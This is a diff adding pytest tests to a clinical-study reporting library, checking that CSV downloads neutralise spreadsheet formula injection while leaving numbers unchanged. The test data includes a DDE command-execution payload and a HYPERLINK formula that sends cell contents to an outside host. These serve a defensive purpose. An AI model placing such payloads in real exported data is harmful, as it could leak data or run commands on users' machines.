@@ -11,6 +11,7 @@ import base64
 import math
 import re
 from datetime import date
+from pathlib import Path
 from types import SimpleNamespace
 
 import pandas as pd
@@ -280,3 +281,83 @@ def test_experts_study_key():
     from nscore.versions import project_root
 
     assert tables.experts_study(project_root() / "data" / "experts.yml") == "NS7CAR-POOLED"
+
+
+# --------------------------------------------------------------------------------------------------
+# issue 14: CSV downloads never carry a spreadsheet formula
+# --------------------------------------------------------------------------------------------------
+def _download(t: Table) -> str:
+    m = re.search(r'href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)"', t.to_myst())
+    return base64.b64decode(m.group(1)).decode("utf-8")
+
+
+@pytest.mark.parametrize("text, expected", [
+    ('=HYPERLINK("http://example.org","x")', '\'=HYPERLINK("http://example.org","x")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-<0.1", "'-<0.1"),        # text to a spreadsheet (it would try to evaluate it): neutralised
+    ("+2.3 pp", "'+2.3 pp"),
+    ("-0.5", "-0.5"),           # a plain number stays a number
+    ("+2.3", "+2.3"),
+    ("-12%", "-12%"),
+    ("-1.5e-3", "-1.5e-3"),
+    ("DL1", "DL1"),
+    ("a=b", "a=b"),             # only the first character counts
+    ("", ""),
+])
+def test_csv_safe_neutralises_formula_text_only(text, expected):
+    assert tables.csv_safe(text) == expected
+
+
+def test_csv_safe_leaves_non_text_values_alone():
+    for v in (-0.5, -3, 0, None, float("nan"), True, pd.Timestamp("2025-08-01")):
+        assert tables.csv_safe(v) is v
+
+
+def test_csv_download_neutralises_formulas_without_changing_numbers():
+    frame = pd.DataFrame({"=Level": ["=1+1", "DL1", "-<0.1"], "Change": [-0.5, 1.25, -3.0],
+                          "N": [-1, 2, 3], "Text number": ["-0.5", "+1", "@x"]})
+    t = tables.table(frame, name="tbl-demo", caption="Demo.")
+    lines = _download(t).splitlines()
+    assert lines == ["'=Level,Change,N,Text number", "'=1+1,-0.5,-1,-0.5", "DL1,1.25,2,+1",
+                     "'-<0.1,-3.0,3,'@x"]
+    # the page's own table is unchanged: only the download is neutralised
+    assert "=1+1" in t.to_myst() and "'=1+1" not in t.to_myst().split("<a ")[0]
+    assert list(t.frame.columns)[0] == "=Level"
+
+
+def test_dose_level_label_from_a_delivery_is_not_a_formula_in_the_download(tmp_path, small_frames):
+    """A delivery whose dose-level label is a formula (study.yml and ADSL agree): Table 1's CSV is safe."""
+    import yaml
+
+    from nscore import cohort as cohort_analyses
+    from nscore.load import load_cohort
+    from nscore.simulate import write_cohort
+
+    evil = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
+    frames = {k: v.copy() for k, v in small_frames.items()}
+    frames["adsl"]["DOSELVL"] = frames["adsl"]["DOSELVL"].replace({"DL1": evil})
+    delivery = tmp_path / "delivery"
+    write_cohort(frames, delivery)
+    study = yaml.safe_load((Path(__file__).parents[1] / "data" / "study.yml").read_text(encoding="utf-8"))
+    study.pop("published", None)
+    for level in study["dose_levels"]:
+        if level["code"] == "DL1":
+            level["code"] = evil
+    (delivery / "study.yml").write_text(yaml.safe_dump(study, sort_keys=False), encoding="utf-8")
+    cohort = load_cohort(delivery)
+    assert evil in set(cohort.adsl["DOSELVL"])
+    baseline = cohort_analyses.baseline_table(cohort)
+    t = tables.table(baseline.table, index=True, index_names=["Characteristic", "Level"], name="tbl-baseline",
+                     caption="Baseline.")
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(_download(t))))
+    cells = [c for row in rows for c in row]
+    assert "'" + evil in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[0-9.]+%?", c)]
